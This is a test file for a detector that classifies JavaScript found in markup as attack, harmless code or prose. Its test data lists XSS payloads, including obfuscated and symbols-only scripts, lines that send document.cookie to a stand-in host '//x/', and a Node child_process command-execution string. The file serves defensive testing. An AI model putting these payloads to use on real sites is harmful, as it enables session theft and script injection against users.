import { describe, expect, test } from 'vitest';
import { isHarmlessIdiom } from '../../../src/attacks/markup/script/idioms.ts';
import { readScript } from '../../../src/attacks/markup/script/read-script.ts';
import { MARK, ScriptScanner } from '../../../src/attacks/markup/script/scanner.ts';
import { isSymbolScript } from '../../../src/attacks/markup/script/symbols-only.ts';

function tokensOf(text: string): readonly string[] {
  const scanner = new ScriptScanner(text);
  const tokens: string[] = [];
  while (scanner.next()) tokens.push(scanner.source);
  return tokens;
}

describe('the scanner', () => {
  test.each([
    ['a/*b*/+"c\\"d"', ['a', '+', '"c\\"d"']],
    ['a = b / c / d', ['a', '=', 'b', '/', 'c', '/', 'd']],
    ['x = /[/]"/g.source', ['x', '=', '/[/]"/g', '.', 'source']],
    ['a // b\nc', ['a', 'c']],
    ['<!-- a\nb', ['b']],
    [`\`a\${b+\`c\`}d\``, [`\`a\${`, 'b', '+', '`c`', '}d`']],
    ["it's", ['it', "'", 's']],
    ['1e3.toFixed', ['1e3.toFixed']],
    ['été(1)', ['été', '(', '1', ')']],
    ['/* a', []],
  ])('reads %j', (text, tokens) => {
    expect(tokensOf(text)).toEqual(tokens);
  });

  test('undoes escapes in names', () => {
    const scanner = new ScriptScanner('\\u0061l\\u{65}rt');
    scanner.next();
    expect([scanner.value, scanner.escaped]).toEqual(['alert', true]);
  });

  test.each(['\\', '\\u', '\\u{', '\\u{110000}', '\ud800', '`${', "'", '/[', '\0'])('comes to an end in %j', (text) => {
    const scanner = new ScriptScanner(text.repeat(50));
    let length = 0;
    while (scanner.next()) {
      expect(scanner.end).toBeGreaterThan(scanner.start);
      length += scanner.kind === MARK ? 1 : 0;
    }
    expect(length).toBeLessThanOrEqual(text.length * 50);
  });
});

describe('what a script would do', () => {
  test.each([
    'alert(1)',
    'alert`1`',
    'alert?.(1)',
    '(alert)(1)',
    '(0,confirm)(1)',
    'alert.call(null,1)',
    "window['al'+'ert'](1)",
    'top[name+name](1)',
    '\\u0061lert(1)',
    "eval('al'+'ert(1)')",
    'eval(location.hash.slice(1))',
    "setTimeout('alert(1)')",
    "[]['constructor']['constructor']('alert(1)')()",
    "x.constructor('alert(1)')()",
    'a=alert;a(1)',
    'onerror=alert;throw 1',
    '[1].find(alert)',
    "import('data:text/javascript,alert(1)')",
    "fetch('//x/'+document.cookie)",
    "location='javascript:alert(1)'",
    'if(1){x()}else alert(2)',
    'a\nalert(1)',
  ])('%s is an attack', (script) => {
    expect(readScript(script, true).attack).not.toBeNull();
  });

  test.each([
    'save(form)',
    'function alert(message) { log(message) }',
    'notify.alert(message)',
    'page.prompt("name")',
    'items.map(render)',
    'setTimeout(render, 100)',
    'x = y.constructor',
    'this.alert = null',
    'data["alert"]',
    '"alert(1)"',
    '// alert(1)',
  ])('%s is none', (script) => {
    expect(readScript(script).attack).toBeNull();
  });

  test.each(['please call alert(1) now', 'alert (see below)', 'note: alert() is gone', "don't confirm(it) yet"])(
    '%j is prose',
    (text) => {
      expect(readScript(text, true).prose).toBe(true);
      expect(readScript(text, true).attack).toBeNull();
    },
  );

  test('server-side JavaScript is told apart', () => {
    expect(readScript("process.mainModule.require('child_process').exec('id')").server).toBe(true);
  });
});

test('scripts of punctuation alone are recognised, drawings and expressions are not', () => {
  expect(isSymbolScript('[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]]')).toBe(true);
  for (const text of [
    '[ ] [x] [ ] [x] [ ] [x] [ ] [ ]',
    '+---+---+ | [] | [] | +---+---+',
    '^[^\\]]+\\[[+-]?\\d+\\]$ !== []',
  ]) {
    expect(isSymbolScript(text), text).toBe(false);
  }
});

test('what editors write is told from what they do not', () => {
  for (const script of [
    'return false',
    "window.open(this.href,'','width=5'); return false;",
    "this.src='/a.png'",
    'history.back()',
  ]) {
    expect(isHarmlessIdiom(script), script).toBe(true);
  }
  for (const script of [
    'alert(1)',
    'return alert(1)',
    "this.src='//x/'+document.cookie",
    'history.back(alert(1))',
    "window.open('javascript:x')",
  ]) {
    expect(isHarmlessIdiom(script), script).toBe(false);
  }
});
